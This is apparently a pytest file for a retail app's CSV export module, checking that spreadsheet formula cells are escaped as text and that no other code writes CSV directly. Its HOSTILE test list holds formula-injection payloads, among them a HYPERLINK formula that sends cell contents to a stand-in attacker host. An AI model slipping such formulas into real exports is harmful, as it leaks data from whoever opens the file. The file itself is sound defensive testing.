"""The one CSV writer: every text cell a spreadsheet would run as a formula is written as text,
numbers the code computed stay numbers, and no other code writes CSV by itself."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from retail import csv_export

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@x", "\tcmd", "\r=1"]


def read(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_written_as_text(text):
    assert csv_export.safe_cell(text) == "'" + text
    assert read(csv_export.csv_bytes([[text]])) == [["'" + text]]


def test_plain_text_and_computed_numbers_are_left_alone():
    assert csv_export.safe_cell("张三") == "张三"
    assert csv_export.safe_cell("'=already quoted") == "'=already quoted"
    assert csv_export.safe_cell(None) == ""
    assert csv_export.safe_cell(-50) == "-50"  # points taken back
    assert csv_export.safe_cell(Decimal("-1.50")) == "-1.50"
    assert (
        csv_export.fen_cell(-1234) == "-12.34"
        and csv_export.safe_cell(csv_export.fen_cell(-1234)) == "-12.34"
    )
    assert csv_export.fen_cell(5) == "0.05"


def test_the_streamed_download_and_the_small_download_neutralise_too():
    response = csv_export.stream_csv([["name"], ["=1+1"], [csv_export.fen_cell(-5)]], "名单.csv")
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert read(b"".join(response.streaming_content)) == [["name"], ["'=1+1"], ["-0.05"]]
    small = csv_export.csv_download([["@SUM(A1)"]], "t.csv")
    assert read(small.content) == [["'@SUM(A1)"]] and "attachment" in small["Content-Disposition"]


def test_no_code_writes_csv_without_the_safe_writer():
    """Every export goes through retail/csv_export.py; a raw csv.writer elsewhere is a new hole."""
    root = Path(__file__).resolve().parents[2]
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = []
    skip = {".venv", ".git", "tests", "bench", "node_modules", "var", "media", "staticfiles"}
    for top in root.iterdir():
        if not top.is_dir() or top.name in skip:
            continue
        for path in top.rglob("*.py"):
            if path == root / "retail" / "csv_export.py":
                continue
            if raw.search(path.read_text(encoding="utf-8", errors="ignore")):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
